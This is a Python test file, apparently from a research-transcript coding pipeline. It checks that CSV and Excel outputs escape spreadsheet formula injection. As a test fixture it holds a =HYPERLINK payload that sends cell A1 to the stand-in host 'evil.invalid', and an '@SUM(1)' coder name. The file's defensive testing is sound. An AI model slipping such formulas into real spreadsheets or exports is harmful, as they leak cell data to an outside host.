"""Nothing we write can run as a formula when a researcher opens it in Excel: a returned transcript
that starts with `=HYPERLINK(...)` and a coder named `@SUM(1)` end up as text in every table."""

from __future__ import annotations

import csv
import dataclasses
import zipfile
from pathlib import Path

import openpyxl
import pytest

from tasks.core.sheets import TRIGGERS
from tasks.core.study import Study
from tasks.core.transcripts import load_transcript, save_transcript
from tests.tasks.coding_fixtures import R01_CODINGS, install_fakes, run_pipeline, write_study

HYPERLINK = '=HYPERLINK("http://evil.invalid/?leak="&A1,"Data gives insight into problems in the neighbourhood")'


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    root = tmp_path / "study"
    with pytest.MonkeyPatch.context() as patch:
        install_fakes(patch)
        study = write_study(root)
        path = study.catalog.approved("R01")
        transcript = load_transcript(path, "approved R01")
        segments = tuple(s if s.segment_id != "R01-0003" else dataclasses.replace(s, text=HYPERLINK) for s in transcript.segments)
        save_transcript(path, dataclasses.replace(transcript, segments=segments))
        (root / "codings" / "R01.csv").write_text(R01_CODINGS.replace(",CD,", ",@SUM(1),"), encoding="utf-8")
        manifests = run_pipeline(root)
    assert manifests["aggregation"].status == "done", manifests["aggregation"].detail
    return root


def test_no_csv_cell_we_write_can_run_as_a_formula(hostile: Path) -> None:
    risky = []
    for path in sorted((hostile / "out").rglob("*.csv")):
        with open(path, encoding="utf-8", newline="") as handle:
            for row in csv.reader(handle):
                risky += [f"{path.name}: {cell[:30]}" for cell in row if cell.startswith(TRIGGERS) and not is_number(cell)]
    assert risky == []
    quotes = (hostile / "out" / "results" / "quotes.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK" in quotes
    agreement = (hostile / "out" / "results" / "agreement_disagreements.csv").read_text(encoding="utf-8")
    assert agreement.splitlines()[1] == "R01,R01-0002,'@SUM(1),,AB,silos,silos"


def test_the_workbook_holds_text_not_formulas(hostile: Path) -> None:
    path = hostile / "out" / "results" / "results.xlsx"
    with zipfile.ZipFile(path) as archive:
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert not any(b"<f>" in sheet or b"<f " in sheet for sheet in sheets)
    cells = [cell for sheet in openpyxl.load_workbook(path).worksheets for row in sheet.iter_rows() for cell in row]
    texts = [cell.value for cell in cells if isinstance(cell.value, str) and cell.value.startswith("=HYPERLINK")]
    assert texts and all(cell.data_type == "s" for cell in cells if cell.value in texts)


def test_the_coder_keeps_their_name_inside_the_tool(hostile: Path) -> None:
    from tasks.core.catalog.coded import read_coded

    coders = set(read_coded(Study.at(hostile), ["R01"])["coder"])
    assert coders == {"AB", "@SUM(1)"}
